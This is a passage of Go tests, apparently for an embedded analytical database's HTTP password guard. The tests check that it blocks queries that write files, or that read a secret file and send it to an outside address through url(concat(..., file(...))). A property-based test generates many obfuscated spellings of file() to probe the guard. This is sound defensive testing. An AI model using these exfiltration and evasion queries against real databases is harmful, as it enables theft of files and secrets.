					status, text := do(t, r)
					if status != test.status || !strings.Contains(text, test.want) || strings.Contains(text, password) {
						t.Errorf("%d %q, want %d, %q", status, text, test.status, test.want)
					}
				}
				if test.status == 200 {
					mustAnswer(t, e, "", "TRUNCATE TABLE strange")
					return
				}
				// What the issue saw: an image on any web page.
				for _, attack := range []string{
					"INSERT INTO FUNCTION file('{folder}/a', LineAsString) VALUES ('x')",
					"SELECT * FROM url(concat('http://{addr}/', file('{secret}')), CSV, 'a String')",
					"SELECT 1",
				} {
					r := newRequest(t, "GET", addr, url.Values{"readonly": {"0"}, "query": {x.aim(attack)}}, "")
					test.change(r)
					status, text := do(t, r)
					if status != test.status {
						t.Errorf("%q: %d %q, want %d", attack, status, text, test.status)
					}
					x.check(t, attack, text)
				}
			})
		}
	})
	if got := mustAnswer(t, e, "", "SELECT count() FROM strange"); got != "0\n" {
		t.Errorf("%s rows were written", got)
	}
	for path, want := range map[string]int{"/ping": 200, "/": 200, "/other": 404, "/other?query=SELECT+1": 401} {
		resp, err := http.Get("http://" + addr + path)
		must(t, err)
		resp.Body.Close()
		if resp.StatusCode != want {
			t.Errorf("GET %s without a password: %s, want %d", path, resp.Status, want)
		}
	}
}

// TestDoorLetsIn: what the program's own commands and those who tend the tables send
// goes through the door.
func TestDoorLetsIn(t *testing.T) {
	addr, password := port(t)
	ask := func(query url.Values, sql string) string {
		t.Helper()
		query.Set("default_format", "TSVRaw")
		r := newRequest(t, "POST", addr, query, sql)
		r.SetBasicAuth(embedded.User, password)
		status, text := do(t, r)
		if status != http.StatusOK {
			t.Errorf("%q: %d %s", sql, status, text)
		}
		return text
	}
	ask(url.Values{}, "DROP DATABASE IF EXISTS let")
	defer ask(url.Values{}, "DROP DATABASE IF EXISTS let SYNC")
	for _, test := range []struct {
		query url.Values
		sql   string
		want  string
	}{
		{nil, "CREATE DATABASE let", ""},
		{nil, "CREATE TABLE let.t (n UInt32, s String, at DateTime64(6) DEFAULT now64(6)) ENGINE = MergeTree ORDER BY n SETTINGS index_granularity = 8192", ""},
		{nil, "CREATE TABLE let.r (n UInt32, s String) ENGINE = ReplacingMergeTree ORDER BY n", ""},
		{nil, "CREATE TABLE let.sums (s String, n UInt64) ENGINE = SummingMergeTree ORDER BY s", ""},
		{nil, "CREATE MATERIALIZED VIEW let.mv TO let.sums AS SELECT s, toUInt64(n) AS n FROM let.t", ""},
		{nil, "INSERT INTO let.t VALUES (1, '/file/profil?file=file(''x'')', now64(6)), (2, 'it\\'s \\\\x', now64(6));", ""},
		{nil, "INSERT INTO let.t (n, s) FORMAT JSONEachRow {\"n\":3,\"s\":\"file('x')\"}", ""},
		{url.Values{"param_s": {"file"}, "param_t": {"t"}, "database": {"let"}}, "INSERT INTO {t:Identifier} (n, s) SELECT 4, {s:String}", ""},
		{url.Values{"param_s": {"file"}, "database": {"let"}}, "INSERT INTO t (n, s) VALUES (5, {s:String})", ""},
		{nil, "SELECT s FROM let.t ORDER BY n", "/file/profil?file=file('x')\nit's \\x\nfile('x')\nfile\nfile\n"},
		{nil, "ALTER TABLE let.t UPDATE s = '' WHERE n = 2 SETTINGS mutations_sync = 1", ""},
		{nil, "ALTER TABLE let.t DELETE WHERE n = 3 SETTINGS mutations_sync = 2", ""},
		{nil, "ALTER TABLE let.t MODIFY SETTING fsync_after_insert = 1", ""},
		{nil, "ALTER TABLE let.t MODIFY TTL toDateTime(at) + INTERVAL 3 YEAR SETTINGS materialize_ttl_after_modify = 0", ""},
		{nil, "ALTER TABLE let.mv MODIFY QUERY SELECT s, toUInt64(n + 0) AS n FROM let.t", ""},
		{nil, "OPTIMIZE TABLE let.sums FINAL", ""},
		{nil, "ALTER TABLE let.t DROP PARTITION tuple()", ""},
		{nil, "SELECT count() FROM system.parts WHERE database = 'let' AND table = 't' AND active", "0\n"},
		{nil, "RENAME TABLE let.r TO let.r2", ""},
		{nil, "SYSTEM STOP MERGES let.r2", ""},
		{nil, "SHOW TABLES FROM let", "mv\nr2\nsums\nt\n"},
		{nil, "EXPLAIN SYNTAX SELECT 1", "SELECT 1\nFROM system.one\n"},
		{nil, "SELECT sum(number) FROM numbers(4)", "6\n"},
		{nil, "WITH 'file' AS x SELECT x, 'disk' AS y FORMAT CSV", "\"file\",\"disk\"\n"},
		{nil, "DROP DATABASE let SYNC", ""},
	} {
		if test.query == nil {
			test.query = url.Values{}
		}
		if got := ask(test.query, test.sql); got != test.want {
			t.Errorf("%q = %q, want %q", test.sql, got, test.want)
		}
	}
	backup := fmt.Sprintf("File('door-%d/')", time.Now().UnixNano())
	ask(url.Values{}, "CREATE DATABASE let")
	ask(url.Values{}, "CREATE TABLE let.t (n UInt32) ENGINE = MergeTree ORDER BY n PARTITION BY n")
	ask(url.Values{}, "INSERT INTO let.t VALUES (1), (2)")
	ask(url.Values{}, "BACKUP TABLE let.t PARTITIONS '1' TO "+backup+" SETTINGS async = 0")
	ask(url.Values{}, "DROP TABLE let.t SYNC")
	ask(url.Values{}, "RESTORE TABLE let.t FROM "+backup)
	if got := ask(url.Values{}, "SELECT n FROM let.t"); got != "1\n" {
		t.Errorf("restored %q", got)
	}
}

// TestSpellings puts the scalar file into statements in many spellings. Inside of the
// process, where nothing is guarded, most read the secret; through a door none does.
func TestSpellings(t *testing.T) {
	e, x := open(t), newTarget(t)
	mustAnswer(t, e, "", "CREATE TABLE spelled (a String) ENGINE = Memory")
	defer mustAnswer(t, e, "", "DROP TABLE spelled SYNC")
	one := func(texts ...string) *rapid.Generator[string] { return rapid.SampledFrom(texts) }
	blank := one("", " ", "\t", "\n", "\u00a0", "\u3000", "/* ' */", "-- \"\n", "#! '\n", " \f", "\ufeff")
	name := one("file", "`file`", `"file"`, "“file”", `"f\x69le"`, "`\\x66ile`")
	path := one("'"+x.secret+"'", "‘"+x.secret+"’", "$$"+x.secret+"$$", "$a$"+x.secret+"$a$", "concat('', '"+x.secret+"')", "'"+strings.ReplaceAll(x.secret, "s", `\x73`)+"'", "{path:String}")
	call := rapid.Custom(func(t *rapid.T) string {
		b := func() string { return blank.Draw(t, "blank") }
		f, p := name.Draw(t, "name"), path.Draw(t, "path")
		return one(
			f+b()+"("+b()+p+b()+")",
			"arrayMap("+b()+f+b()+", ["+p+"])",
			"arrayMap(x"+b()+"->"+b()+f+"(x), ["+p+"])",
			"arrayMap({name:Identifier}, ["+p+"])",
			"(SELECT * APPLY("+b()+f+b()+") FROM (SELECT "+p+"))",
			"(SELECT * APPLY"+" "+b()+f+" FROM (SELECT "+p+"))",
			"(WITH x -> "+f+"(x) AS g SELECT g("+p+"))",
		).Draw(t, "call")
	})
	wrap := rapid.Custom(func(t *rapid.T) string {
		text := call.Draw(t, "call")
		for range rapid.IntRange(0, 3).Draw(t, "depth") {
			text = fmt.Sprintf(one("toString(%s)", "(%s)", "tuple(%s)", "(SELECT %s)", "[%s]", "if(1, %s, %[1]s)", "CASE WHEN 1 THEN %s END", "ifNull(%s, NULL)", "identity(%s)").Draw(t, "wrap"), text)
		}
		return text
	})
	statement := rapid.Custom(func(t *rapid.T) string {
		b := blank.Draw(t, "blank")
		return fmt.Sprintf(one(
			"SELECT %s", "SELECT 1, %s AS x FORMAT JSONEachRow", "SELECT * FROM (SELECT %s)", "WITH %s AS x SELECT x", "SELECT 1 UNION ALL SELECT length(throwIf(1, toString(%s)))",
			"EXPLAIN SELECT throwIf(1, toString(%s))", "DESCRIBE (SELECT throwIf(1, toString(%s)))", "SELECT 1 WHERE throwIf(1, toString(%s))", "SELECT 1 ORDER BY throwIf(1, toString(%s))",
			"INSERT INTO spelled SELECT toString(%s)", "INSERT INTO spelled VALUES (toString(%s))", "INSERT"+b+" INTO"+b+" spelled VALUES"+b+" ('a'), (toString(%s))",
			"SHOW TABLES FROM system WHERE throwIf(1, toString(%s))",
		).Draw(t, "statement"), wrap.Draw(t, "expression"))
	})
	outcome := func(parameters, sql string, send func(parameters, sql string) string) string {
		text := send(parameters, sql)
		if strings.HasPrefix(sql, "INSERT") {
			text += mustAnswer(t, e, "", "SELECT a FROM spelled")
			mustAnswer(t, e, "", "TRUNCATE TABLE spelled")
		}
		return text
	}
	tried, read := 0, 0
	rapid.Check(t, func(rt *rapid.T) {
		sql := statement.Draw(rt, "sql")
		query := parameters("param_path", x.secret, "param_name", "file")
		tried++
		inside := outcome(query, sql, func(parameters, sql string) string {
			_, text := answer(t, e, parameters, sql)
			return text
		})
		if strings.Contains(inside, x.canary) {
			read++
		}
		for _, more := range []string{"", "&readonly=1"} {
			got := outcome(query+more, sql, func(parameters, sql string) string {
				recorder := httptest.NewRecorder()
				r := httptest.NewRequest("POST", "http://localhost/?"+parameters, strings.NewReader(sql))
				e.ServeHTTP(recorder, r)
				return recorder.Body.String()
			})
			if strings.Contains(got, x.canary) {
				rt.Errorf("%q with %q read the secret: %s", sql, more, got)
			}
		}
	})
	if t.Logf("%d of %d statements read the secret where they are not guarded", read, tried); read < tried/3 {
		t.Errorf("of %d statements only %d would have read anything: the test tries too little", tried, read)
	}
}

// TestGuardedNames: the guard compares names exactly, which is right as long as the
// engine does, and gives them no other names.
func TestGuardedNames(t *testing.T) {
	e := open(t)
	var list []string
	for name := range embedded.GuardedNames {
		list = append(list, "'"+strings.ToLower(name)+"'")
	}
	names := strings.Join(list, ", ")
	if got := mustAnswer(t, e, "", "SELECT name FROM system.functions WHERE (lower(name) IN ("+names+") OR lower(alias_to) IN ("+names+")) AND (case_insensitive OR alias_to != '') ORDER BY name"); got != "" {
		t.Errorf("functions with other names than those that are guarded: %q", got)
	}
	if got := mustAnswer(t, e, "", "SELECT count() FROM system.functions WHERE name IN ('file', 'catboostEvaluate', 'arrayReduce', 'arrayReduceInRanges', 'initializeAggregation')"); got != "5\n" {
		t.Errorf("guarded functions that there are: %s", got)
	}
}

// TestPasswordFile: the password is made once, kept from others, and read again.
func TestPasswordFile(t *testing.T) {
	e := open(t)
	path := embedded.PasswordPath(shared.dir)
	must(t, os.RemoveAll(path))
	first, err := e.Password()
	must(t, err)
	info, err := os.Stat(path)
	must(t, err)
	if info.Mode() != 0o600 || len(first) < 20 {
		t.Errorf("%v, %d characters", info.Mode(), len(first))
	}
	if again, err := e.Password(); again != first || err != nil {
		t.Errorf("then it is another: %v", err)
	}
	if left, _ := filepath.Glob(filepath.Join(shared.dir, ".password*")); left != nil {
		t.Errorf("left behind: %v", left)
	}
	must(t, os.WriteFile(path, []byte("a password of my own\n"), 0o600))
	if own, err := e.Password(); own != "a password of my own" || err != nil {
		t.Errorf("an owner's password: %q, %v", own, err)
	}
	for mode, want := range map[os.FileMode]string{0o640: "others may read", 0o604: "others may read", 0o620: "others may read"} {
		must(t, os.Chmod(path, mode))
		if _, err := e.Password(); err == nil || !strings.Contains(err.Error(), want) || strings.Contains(err.Error(), "of my own") {
			t.Errorf("mode %v: %v, want %q", mode, err, want)
		}
		listener, err := net.Listen("tcp", "127.0.0.1:0")
		must(t, err)
		if err := e.Serve(t.Context(), listener); err == nil {
			t.Errorf("mode %v: the engine is served", mode)
		}
	}
	must(t, os.Chmod(path, 0o600))
	if os.Geteuid() == 0 {
		must(t, os.Chown(path, 54321, 0))
		if _, err := e.Password(); err == nil || !strings.Contains(err.Error(), "belongs to user 54321") {
			t.Errorf("a stranger's file: %v", err)
		}
		must(t, os.Chown(path, 0, 0))
	}
	must(t, os.WriteFile(path, []byte(" \n"), 0o600))
	if _, err := e.Password(); err == nil || !strings.Contains(err.Error(), "fewer than 16") {
		t.Errorf("an empty file: %v", err)
	}
	must(t, os.Remove(path), os.Mkdir(path, 0o700))
	if _, err := e.Password(); err == nil {
		t.Error("a directory is taken for a password")
	}
	must(t, os.Remove(path))
	if second, err := e.Password(); second == first || err != nil {
		t.Errorf("a removed password came back: %v", err)
	}
}

// TestWrongPasswordsWait: a wrong password is answered after a second, sixteen at once
// wait, more do not, and meanwhile the right one comes in.
func TestWrongPasswordsWait(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		var log strings.Builder
		door := embedded.Lock(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}), "the right password", slog.New(slog.NewTextHandler(&log, nil)))
		ask := func(password string) int {
			w, r := httptest.NewRecorder(), httptest.NewRequest("POST", "http://localhost/", strings.NewReader("SELECT 1"))
			r.SetBasicAuth(embedded.User, password)
			door.ServeHTTP(w, r)
			return w.Code
		}
		start := time.Now()
		if got := ask("wrong"); got != 403 || time.Since(start) != time.Second {
			t.Errorf("%d after %v", got, time.Since(start))
		}
		codes := make(chan int, 100)
		for range 100 {
			go func() { codes <- ask("wrong") }()
		}
		synctest.Wait()
		if start := time.Now(); ask("the right password") != 200 || time.Since(start) != 0 {
			t.Error("the right password waits too")
		}
		count := make(map[int]int)
		for range 100 {
			count[<-codes]++
		}
		if want := map[int]int{403: 16, 503: 84}; !maps.Equal(count, want) {
			t.Errorf("answers %v, want %v", count, want)
		}
		if lines := slices.Collect(strings.Lines(log.String())); len(lines) != 1 || strings.Contains(log.String(), "wrong password") && strings.Contains(log.String(), "the right") {
			t.Errorf("logged %q", lines)
		}
	})
}
